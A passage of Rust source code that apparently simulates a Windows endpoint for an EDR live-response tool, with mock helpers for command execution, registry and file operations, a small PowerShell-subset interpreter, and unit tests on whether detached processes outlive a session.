                }
            }
            Helper::Execute => {
                let line = s("command_line");
                let pid = self.next_pid;
                self.next_pid += 4;
                let wait = p.get("wait").and_then(Value::as_bool).unwrap_or(true);
                let (exit_code, output) = simulate_command(&line, &self.hostname);
                if !wait {
                    let name = line.split_whitespace().next().unwrap_or("cmd.exe").to_owned();
                    // Started by the WMI service, the process is outside the session's job
                    // object and survives it; started as the script's child, it dies with it.
                    let detached = starts_detached(source);
                    if !detached {
                        self.session_bound.push(pid);
                    }
                    self.processes.insert(
                        pid,
                        Process {
                            pid,
                            ppid: if detached { WMI_PROVIDER_HOST } else { 2960 },
                            name,
                            path: String::new(),
                            user: "NT AUTHORITY\\SYSTEM".into(),
                        },
                    );
                }
                Ok(HelperOutput {
                    ok: true,
                    pid: Some(pid),
                    exit_code: wait.then_some(exit_code),
                    output: wait.then_some(output),
                    ..HelperOutput::default()
                })
            }
            Helper::Registry => self.registry_op(p),
            Helper::File => self.file_op(p),
        };
        result.unwrap_or_else(|(word, message, hr)| HelperOutput {
            ok: false,
            error: Some(word.into()),
            message: Some(message),
            hresult: (!hr.is_empty()).then(|| hr.to_owned()),
            ..HelperOutput::default()
        })
    }

    fn list(&self, path: &str) -> Result<HelperOutput, (&'static str, String, &'static str)> {
        let dir = key(path.trim_end_matches('*'));
        match self.files.get(&dir) {
            Some(n) if n.dir => {}
            _ => {
                return Err((
                    "file_not_found",
                    format!("The system cannot find the path specified: {path}"),
                    "0x80070003",
                ));
            }
        }
        let prefix = format!("{dir}\\");
        let entries = self
            .files
            .iter()
            .filter(|(k, _)| {
                k.starts_with(&prefix)
                    && !k[prefix.len()..].contains('\\')
                    && k.len() > prefix.len()
            })
            .map(|(_, n)| HelperEntry {
                name: n.path.rsplit('\\').next().unwrap_or_default().to_owned(),
                dir: n.dir,
                size: n.content.len() as u64,
                attrs: vec![if n.dir { "DIRECTORY".into() } else { "ARCHIVE".into() }],
                created: Some(1_700_000_000),
                modified: Some(1_700_000_100),
                accessed: Some(1_700_000_200),
            })
            .collect();
        Ok(HelperOutput { ok: true, entries: Some(entries), ..HelperOutput::default() })
    }

    fn registry_op(
        &mut self,
        p: &Value,
    ) -> Result<HelperOutput, (&'static str, String, &'static str)> {
        let s = |k: &str| p.get(k).and_then(Value::as_str).unwrap_or_default().to_owned();
        let k = s("key");
        let lk = key(&k);
        let missing = || {
            ("file_not_found", format!("The system cannot find the registry key {k}"), "0x80070002")
        };
        let done = || Ok(HelperOutput { ok: true, ..HelperOutput::default() });
        match s("op").as_str() {
            "list" => {
                let rk = self.registry.get(&lk).ok_or_else(missing)?;
                let prefix = format!("{lk}\\");
                let sub_keys = self
                    .registry
                    .iter()
                    .filter(|(x, _)| x.starts_with(&prefix) && !x[prefix.len()..].contains('\\'))
                    .map(|(_, v)| v.name.rsplit('\\').next().unwrap_or_default().to_owned())
                    .collect();
                let values = rk
                    .values
                    .values()
                    .map(|(n, t, d)| HelperRegValue {
                        name: n.clone(),
                        kind: t.clone(),
                        data: d.clone(),
                    })
                    .collect();
                Ok(HelperOutput {
                    ok: true,
                    sub_keys: Some(sub_keys),
                    values: Some(values),
                    ..HelperOutput::default()
                })
            }
            "get" => {
                let rk = self.registry.get(&lk).ok_or_else(missing)?;
                let v = s("value");
                let (n, t, d) = rk.values.get(&v.to_ascii_lowercase()).ok_or_else(|| {
                    (
                        "file_not_found",
                        format!("The system cannot find the registry value {v}"),
                        "0x80070002",
                    )
                })?;
                Ok(HelperOutput {
                    ok: true,
                    value: Some(HelperRegValue {
                        name: n.clone(),
                        kind: t.clone(),
                        data: d.clone(),
                    }),
                    ..HelperOutput::default()
                })
            }
            "set" => {
                let overwrite = p.get("overwrite").and_then(Value::as_bool).unwrap_or(false);
                let rk = self.registry.get_mut(&lk).ok_or_else(missing)?;
                let v = s("value");
                if !overwrite && rk.values.contains_key(&v.to_ascii_lowercase()) {
                    return Err((
                        "conflict",
                        format!("The registry value {v} already exists"),
                        "0x800700B7",
                    ));
                }
                rk.values.insert(
                    v.to_ascii_lowercase(),
                    (v, s("type"), p.get("data").cloned().unwrap_or(Value::Null)),
                );
                done()
            }
            "create_key" => {
                // Creates missing parents too, as New-Item -Force does.
                let mut acc = String::new();
                for part in k.trim_end_matches('\\').split('\\') {
                    if !acc.is_empty() {
                        acc.push('\\');
                    }
                    acc.push_str(part);
                    self.registry
                        .entry(key(&acc))
                        .or_insert_with(|| RegKey { name: acc.clone(), values: BTreeMap::new() });
                }
                done()
            }
            "delete_key" => {
                if self.registry.remove(&lk).is_none() {
                    return Err(missing());
                }
                let prefix = format!("{lk}\\");
                self.registry.retain(|x, _| !x.starts_with(&prefix));
                done()
            }
            "delete_value" => {
                let rk = self.registry.get_mut(&lk).ok_or_else(missing)?;
                let v = s("value");
                if rk.values.remove(&v.to_ascii_lowercase()).is_none() {
                    return Err((
                        "file_not_found",
                        format!("The system cannot find the registry value {v}"),
                        "0x80070002",
                    ));
                }
                done()
            }
            op => Err(("invalid_request", format!("unknown op {op}"), "")),
        }
    }

    fn file_op(&mut self, p: &Value) -> Result<HelperOutput, (&'static str, String, &'static str)> {
        let s = |k: &str| p.get(k).and_then(Value::as_str).unwrap_or_default().to_owned();
        let path = s("path");
        let done = || Ok(HelperOutput { ok: true, ..HelperOutput::default() });
        let parent_exists = |files: &BTreeMap<String, Node>, path: &str| {
            path.rsplit_once('\\').is_some_and(|(parent, _)| {
                let parent =
                    if parent.ends_with(':') { format!("{parent}\\") } else { parent.to_owned() };
                files.get(&key(&parent)).is_some_and(|n| n.dir)
            })
        };
        match s("op").as_str() {
            "delete" => {
                if Self::denied(&path) {
                    return Err((
                        "access_denied",
                        format!("Access to the path '{path}' is denied."),
                        "0x80070005",
                    ));
                }
                match self.files.get(&key(&path)) {
                    Some(n) if !n.dir => {
                        self.files.remove(&key(&path));
                        done()
                    }
                    _ => Err((
                        "file_not_found",
                        format!("The system cannot find the file specified: {path}"),
                        "0x80070002",
                    )),
                }
            }
            "mkdir" => {
                if self.files.contains_key(&key(&path)) {
                    return Err((
                        "conflict",
                        format!("Cannot create a file when that file already exists: {path}"),
                        "0x800700B7",
                    ));
                }
                if !parent_exists(&self.files, &path) {
                    return Err((
                        "file_not_found",
                        format!("The system cannot find the path specified: {path}"),
                        "0x80070003",
                    ));
                }
                self.files.insert(key(&path), Node { path, dir: true, content: Vec::new() });
                done()
            }
            "place" => {
                let source = s("source");
                let Some(node) = self.files.get(&key(&source)).filter(|n| !n.dir).cloned() else {
                    return Err((
                        "file_not_found",
                        format!("The uploaded file is missing: {source}"),
                        "0x80070002",
                    ));
                };
                if !parent_exists(&self.files, &path) {
                    return Err((
                        "file_not_found",
                        format!("The system cannot find the path specified: {path}"),
                        "0x80070003",
                    ));
                }
                if self.files.contains_key(&key(&path)) {
                    return Err((
                        "conflict",
                        format!("Cannot create a file when that file already exists: {path}"),
                        "0x800700B7",
                    ));
                }
                self.files.remove(&key(&source));
                self.files.insert(key(&path), Node { path, dir: false, content: node.content });
                done()
            }
            op => Err(("invalid_request", format!("unknown op {op}"), "")),
        }
    }
}

/// `-p <base64 JSON>` as edrgate's helpers take it.
fn decode_params(args: &str) -> Value {
    let b64 = args.trim().strip_prefix("-p").unwrap_or(args).trim();
    base64::engine::general_purpose::STANDARD
        .decode(b64)
        .ok()
        .and_then(|bytes| serde_json::from_slice(&bytes).ok())
        .unwrap_or(Value::Null)
}

/// What `cmd /c <line>` prints on the simulated device.
fn simulate_command(line: &str, hostname: &str) -> (i64, String) {
    let l = line.trim();
    let lower = l.to_ascii_lowercase();
    if let Some(rest) = lower.strip_prefix("exit ") {
        return (rest.trim().parse().unwrap_or(1), String::new());
    }
    if lower.starts_with("echo ") {
        return (0, format!("{}\r\n", &l[5..]));
    }
    match lower.as_str() {
        "whoami" => (0, "nt authority\\system\r\n".into()),
        "hostname" => (0, format!("{hostname}\r\n")),
        _ => (0, format!("'{l}' ran\r\n")),
    }
}

pub(crate) enum Script {
    Done { exit_code: i64, output: String, errors: String },
    Threw(String),
}

/// Seconds of `Start-Sleep -Seconds N` lines: how long the script runs.
pub(crate) fn script_sleep_secs(source: &[u8]) -> f64 {
    String::from_utf8_lossy(source)
        .lines()
        .filter_map(|l| {
            let l = l.trim().to_ascii_lowercase();
            let rest = l.strip_prefix("start-sleep")?;
            let n =
                rest.trim().trim_start_matches("-seconds").trim().trim_start_matches("-s").trim();
            n.parse::<f64>().ok()
        })
        .sum()
}

/// A small PowerShell subset for arbitrary library scripts: `Write-Output`/`echo` print
/// (`$args` expands to the arguments, `$env:COMPUTERNAME` to the host), `Write-Error` writes
/// to the error stream, `exit N` ends with code N, `throw` fails the command, `Start-Sleep`
/// only takes time; any other line is ignored.
pub(crate) fn interpret(source: &[u8], args: &str, hostname: &str) -> Script {
    let text = String::from_utf8_lossy(source);
    let (mut output, mut errors) = (String::new(), String::new());
    let expand = |s: &str| {
        let s = s.trim().trim_matches(|c| c == '"' || c == '\'');
        s.replace("$args", args).replace("$env:COMPUTERNAME", hostname)
    };
    for line in text.lines() {
        let l = line.trim();
        let lower = l.to_ascii_lowercase();
        if let Some(rest) =
            lower.strip_prefix("write-output").or_else(|| lower.strip_prefix("echo"))
        {
            output.push_str(&expand(&l[l.len() - rest.len()..]));
            output.push('\n');
        } else if let Some(rest) = lower.strip_prefix("write-error") {
            errors.push_str(&expand(&l[l.len() - rest.len()..]));
            errors.push('\n');
        } else if let Some(rest) = lower.strip_prefix("throw") {
            return Script::Threw(expand(&l[l.len() - rest.len()..]));
        } else if let Some(rest) = lower.strip_prefix("exit") {
            return Script::Done { exit_code: rest.trim().parse().unwrap_or(0), output, errors };
        }
    }
    Script::Done { exit_code: 0, output, errors }
}

pub(crate) fn gzip(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    let _ = enc.write_all(bytes);
    enc.finish().unwrap_or_default()
}

#[cfg(test)]
mod session_tests {
    use super::*;

    fn execute(e: &mut Endpoint, source: &[u8]) -> u64 {
        let p = json!({"command_line": "ping -t 127.0.0.1", "wait": false});
        let out = e.helper(Helper::Execute, &p, source);
        assert!(out.ok, "{out:?}");
        out.pid.unwrap_or_default()
    }

    #[test]
    fn a_plainly_started_process_dies_with_the_session_a_detached_one_survives() {
        let mut e = Endpoint::new("mde-0001", 16, Family::Windows);
        // The execute helper as it was: `Process.Start`, the process a child of the script.
        let child = execute(&mut e, b"$proc = [System.Diagnostics.Process]::Start($psi)\n");
        // Today's helper: `Win32_Process.Create`.
        let detached = execute(&mut e, Helper::Execute.source().as_bytes());
        assert!(e.processes.contains_key(&child) && e.processes.contains_key(&detached));
        e.end_session();
        assert!(!e.processes.contains_key(&child), "the session's job took it down");
        assert_eq!(e.processes.get(&detached).map(|p| p.ppid), Some(WMI_PROVIDER_HOST));
        // A second session end changes nothing.
        e.end_session();
        assert!(e.processes.contains_key(&detached));
    }

    #[test]
    fn detached_means_wmi_or_a_scheduled_task() {
        let wmi = b"Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments $a";
        assert!(starts_detached(wmi));
        assert!(starts_detached(b"Register-ScheduledTask -TaskName x -Action $a"));
        assert!(!starts_detached(b"Start-Process -FilePath notepad.exe"));
        assert!(!starts_detached(b"[System.Diagnostics.Process]::Start($psi)"));
    }
}
